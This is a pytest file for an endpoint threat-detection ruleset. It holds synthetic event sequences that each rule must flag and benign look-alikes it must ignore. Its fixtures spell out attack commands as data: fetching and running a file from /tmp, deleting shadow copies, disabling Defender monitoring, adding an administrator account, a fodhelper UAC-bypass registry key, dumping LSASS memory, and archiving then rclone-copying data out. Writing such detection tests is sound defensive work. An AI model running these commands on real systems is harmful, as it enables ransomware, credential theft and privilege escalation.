"""The rules that ship: each finds what it is for, and leaves alone what looks like it."""

from __future__ import annotations

import re
from typing import Any

import pytest

from fastfold.rules.fields import implied_kinds, unpopulated
from fastfold.rules.ruleset import load_rules
from fastfold.rules.types import Rule
from fastfold.schema import list_schemas, load_schema
from fastfold.types import COLUMNS
from matching import finds

Given = dict[str, Any]

RULES = {rule.id: rule for rule in load_rules(["starting"])}
SYSTEM = "C:\\Windows\\System32\\"
USER = "C:\\Users\\mira\\"
WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
POWERSHELL = SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe"
RUN = "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater"


def event(time: float, kind: str, process: str = "p1", **columns: str) -> Given:
    assert set(columns) <= set(COLUMNS)
    return {"time": time, "host": "h1", "process": process, "kind": kind, **columns}


def documents(count: int, seconds: float) -> list[Given]:
    return [
        event(number * seconds / count, "file_rename", file=f"{USER}Documents\\{number}.docx.lock9")
        for number in range(count)
    ]


def tools(names: str, parent: str = "p0") -> list[Given]:
    return [
        event(number, "process_start", f"p{number + 1}", image=f"{SYSTEM}{name}.exe", parent=parent)
        for number, name in enumerate(names.split())
    ]


# Of each rule what it must find, and what it must not: the same with one thing that makes it harmless.
FOUND: dict[str, list[Given]] = {
    "office-shell-connects": [
        event(0, "process_start", image=POWERSHELL, other_image=WORD),
        event(9, "net_connect", image=POWERSHELL, remote="203.0.113.7:443"),
    ],
    "office-writes-and-starts": [
        event(0, "file_write", image=WORD, file=USER + "AppData\\Local\\Temp\\invoice.js"),
        event(2, "child_start", image=WORD, other_image=SYSTEM + "wscript.exe"),
    ],
    "downloader-writes-and-starts": [
        event(0, "dns_query", image=SYSTEM + "certutil.exe", domain="files.example"),
        event(3, "file_write", image=SYSTEM + "certutil.exe", file=USER + "a.exe"),
        event(4, "child_start", other_image=USER + "a.exe"),
    ],
    "wmi-shell-connects": [
        event(0, "process_start", image=SYSTEM + "cmd.exe", other_image=SYSTEM + "wbem\\WmiPrvSE.exe"),
        event(5, "net_connect", image=SYSTEM + "cmd.exe", remote="[2001:db8::7]:8443"),
    ],
    "web-server-shell-connects": [
        event(0, "process_start", image="/bin/dash", other_image="/usr/sbin/apache2"),
        event(5, "net_connect", image="/bin/dash", remote="203.0.113.7:4444"),
    ],
    "fetched-then-run-from-temp": [
        event(
            0, "process_start", "p1", image="/usr/bin/curl", command_line="curl -o /tmp/x http://a.example", user="u"
        ),
        event(6, "process_start", "p2", image="/tmp/x", command_line="/tmp/x", user="u"),
    ],
    "injected-then-connects": [
        event(0, "injected_by", image=SYSTEM + "notepad.exe", target="p9"),
        event(60, "net_connect", image=SYSTEM + "notepad.exe", remote="203.0.113.7:80"),
    ],
    "lsass-remote-thread": [
        event(0, "remote_thread", image=USER + "a.exe", other_image=SYSTEM + "lsass.exe"),
    ],
    "lsass-read-then-dump": [
        event(0, "process_access", image=USER + "a.exe", other_image=SYSTEM + "lsass.exe"),
        event(1, "file_write", image=USER + "a.exe", file=USER + "out.DMP"),
    ],
    "credential-store-then-archive": [
        event(0, "file_open", "p1", file=USER + "AppData\\Local\\Google\\Login Data", image=USER + "a.exe", user="u"),
        event(600, "file_write", "p2", file=USER + "a.7z", user="u"),
    ],
    "uac-bypass-registry": [
        event(
            0, "registry_set", "p1", registry="HKU\\S-1-5-21-1_Classes\\ms-settings\\Shell\\Open\\command\\(Default)"
        ),
        event(4, "process_start", "p2", image=SYSTEM + "fodhelper.exe"),
    ],
    "account-created-and-raised": [
        event(0, "process_start", "p1", image=SYSTEM + "net1.exe", command_line="net1 user kim Pw /add"),
        event(
            9, "process_start", "p2", image=SYSTEM + "net.exe", command_line="net localgroup administrators kim /add"
        ),
    ],
    "run-key-then-started": [
        event(0, "registry_set", "p1", registry=RUN, detail=USER + "AppData\\Roaming\\u.exe"),
        event(
            40_000,
            "process_start",
            "p2",
            image=USER + "AppData\\Roaming\\u.exe",
            other_image="C:\\Windows\\explorer.exe",
        ),
    ],
    "service-dropped-then-started": [
        event(0, "file_write", "p1", file="C:\\Windows\\qwx.exe", image="System"),
        event(1, "registry_set", "p2", registry="HKLM\\System\\CurrentControlSet\\Services\\qwx\\ImagePath"),
        event(1, "process_start", "p3", image="C:\\Windows\\qwx.exe", other_image=SYSTEM + "services.exe"),
    ],
    "task-file-then-started": [
        event(0, "process_start", "p1", image=SYSTEM + "schtasks.exe", command_line="schtasks /Create /TN a /TR b"),
        event(600, "process_start", "p2", image=POWERSHELL, other_image=SYSTEM + "svchost.exe"),
    ],
    "mass-rename-delete": documents(40, 50),
    "recovery-disabled-then-files-changed": [
        event(0, "process_start", "p1", command_line="vssadmin.exe delete shadows /all /quiet"),
        event(30, "file_rename", "p2", file=USER + "plan.xlsx.crypt"),
    ],
    "protection-off-then-program": [
        event(0, "process_start", "p1", command_line="powershell Set-MpPreference -DisableRealtimeMonitoring $true"),
        event(30, "file_write", "p2", file=USER + "Downloads\\tool.exe"),
    ],
    "archive-then-transfer": [
        event(0, "process_start", "p1", image=USER + "rar.exe", command_line="rar.exe a -hpX out.rar *", user="u"),
        event(900, "process_start", "p2", image=USER + "rclone.exe", command_line="rclone copy out.rar r:", user="u"),
    ],
    "discovery-burst": tools("whoami ipconfig systeminfo tasklist net"),
}
LEFT: dict[str, list[Given]] = {
    # To the machine itself.
    "office-shell-connects": [
        FOUND["office-shell-connects"][0],
        event(9, "net_connect", image=POWERSHELL, remote="127.0.0.1:443"),
    ],
    # A document, and then the spooler.
    "office-writes-and-starts": [
        event(0, "file_write", image=WORD, file=USER + "plan.docx"),
        event(2, "child_start", image=WORD, other_image=SYSTEM + "splwow64.exe"),
    ],
    # In another order: what it started was there before.
    "downloader-writes-and-starts": [
        FOUND["downloader-writes-and-starts"][0],
        event(2, "child_start", other_image=USER + "a.exe"),
        FOUND["downloader-writes-and-starts"][1],
    ],
    # Another process connects.
    "wmi-shell-connects": [
        FOUND["wmi-shell-connects"][0],
        event(5, "net_connect", "p2", image=SYSTEM + "cmd.exe", remote="203.0.113.7:443"),
    ],
    # The shell of a login.
    "web-server-shell-connects": [
        event(0, "process_start", image="/bin/dash", other_image="/usr/sbin/sshd"),
        FOUND["web-server-shell-connects"][1],
    ],
    # By another user.
    "fetched-then-run-from-temp": [
        FOUND["fetched-then-run-from-temp"][0],
        {**FOUND["fetched-then-run-from-temp"][1], "user": "v"},
    ],
    # Before anybody put a thread into it.
    "injected-then-connects": [
        FOUND["injected-then-connects"][0],
        event(-1, "net_connect", image=SYSTEM + "notepad.exe", remote="203.0.113.7:80"),
    ],
    "lsass-remote-thread": [
        event(0, "remote_thread", image=SYSTEM + "csrss.exe", other_image=SYSTEM + "lsass.exe"),
        event(0, "remote_thread", image=USER + "a.exe", other_image=USER + "notlsass.exe"),
    ],
    # A dump of something else's memory, much later.
    "lsass-read-then-dump": [
        FOUND["lsass-read-then-dump"][0],
        event(301, "file_write", image=USER + "a.exe", file=USER + "out.DMP"),
    ],
    # The browser itself.
    "credential-store-then-archive": [
        {**FOUND["credential-store-then-archive"][0], "image": "C:\\Program Files\\Google\\Chrome\\chrome.exe"},
        FOUND["credential-store-then-archive"][1],
    ],
    "uac-bypass-registry": [
        event(0, "registry_set", "p1", registry="HKLM\\Software\\Classes\\txtfile\\shell\\open\\command\\(Default)"),
        FOUND["uac-bypass-registry"][1],
    ],
    # Nobody is raised.
    "account-created-and-raised": [
        FOUND["account-created-and-raised"][0],
        event(9, "process_start", "p2", image=SYSTEM + "net.exe", command_line="net localgroup users kim /add"),
    ],
    # On another host.
    "run-key-then-started": [
        FOUND["run-key-then-started"][0],
        {**FOUND["run-key-then-started"][1], "host": "h2"},
    ],
    # An installer.
    "service-dropped-then-started": [
        {**FOUND["service-dropped-then-started"][0], "image": SYSTEM + "msiexec.exe"},
        *FOUND["service-dropped-then-started"][1:],
    ],
    "task-file-then-started": [
        event(0, "process_start", "p1", image=SYSTEM + "schtasks.exe", command_line="schtasks /Query"),
        FOUND["task-file-then-started"][1],
    ],
    # Forty in two minutes.
    "mass-rename-delete": documents(40, 124),
    # A document that stays a document.
    "recovery-disabled-then-files-changed": [
        FOUND["recovery-disabled-then-files-changed"][0],
        event(30, "file_write", "p2", file=USER + "plan.xlsx"),
    ],
    "protection-off-then-program": [
        event(0, "process_start", "p1", command_line="powershell Get-MpPreference"),
        FOUND["protection-off-then-program"][1],
    ],
    # Unpacked.
    "archive-then-transfer": [
        event(0, "process_start", "p1", image=USER + "rar.exe", command_line="rar.exe x out.rar", user="u"),
        FOUND["archive-then-transfer"][1],
    ],
    # The same tool again and again, and four different ones.
    "discovery-burst": tools("whoami whoami whoami ipconfig systeminfo tasklist"),
}
EVERY = pytest.mark.parametrize("rule", RULES.values(), ids=RULES)


def test_every_rule_has_what_it_finds_and_what_it_leaves() -> None:
    assert set(FOUND) == set(LEFT) == set(RULES)
    assert 15 <= len(RULES) <= 20


@EVERY
def test_a_rule_finds_what_it_is_for(rule: Rule) -> None:
    assert finds(rule, FOUND[rule.id])
    # Whatever order the events are given in, and nothing with any of them missing.
    assert finds(rule, FOUND[rule.id][::-1])
    for number in range(len(FOUND[rule.id])):
        assert not finds(rule, FOUND[rule.id][:number] + FOUND[rule.id][number + 1 :])


@pytest.mark.parametrize(
    ("command", "found"),
    [
        ("%COMSPEC% /C start powershell -enc AA", True),
        ('"C:\\Windows\\cmd.exe" /c x', True),
        (SYSTEM + "cmdkey.exe", False),
    ],
)
def test_a_service_that_is_a_shell_needs_no_dropped_program(command: str, found: bool) -> None:
    _, registered, started = FOUND["service-dropped-then-started"]
    assert finds(RULES["service-dropped-then-started"], [registered | {"detail": command}, started]) == found


@EVERY
def test_a_rule_leaves_alone_what_only_looks_like_it(rule: Rule) -> None:
    assert not finds(rule, LEFT[rule.id])


@EVERY
def test_no_rule_finds_what_another_is_for(rule: Rule) -> None:
    """Or else two alerts would be of one thing."""
    assert [name for name, events in FOUND.items() if name != rule.id and finds(rule, events)] == []


@EVERY
def test_a_rule_says_what_a_person_needs(rule: Rule) -> None:
    assert rule.description
    assert rule.tags
    assert all(re.fullmatch(r"attack\.t\d{4}(\.\d{3})?", tag) for tag in rule.tags)
    assert rule.scope == "process" or rule.suppress_ns or rule.group, "one alert for a host, and never again"


@EVERY
def test_a_rule_can_match_in_several_formats(rule: Rule) -> None:
    able = [name for name in list_schemas() if not unpopulated(rule, load_schema(name))]
    assert len(able) >= 2
    assert all(implied_kinds(step.condition) for step in rule.steps)


@EVERY
def test_no_rule_names_a_host_a_user_or_an_id(rule: Rule) -> None:
    text = repr(rule.steps)
    assert not re.search(r"[0-9a-f]{8}-[0-9a-f]{4}", text, re.IGNORECASE)
    assert "'host'" not in text
    assert "column='process'" not in text
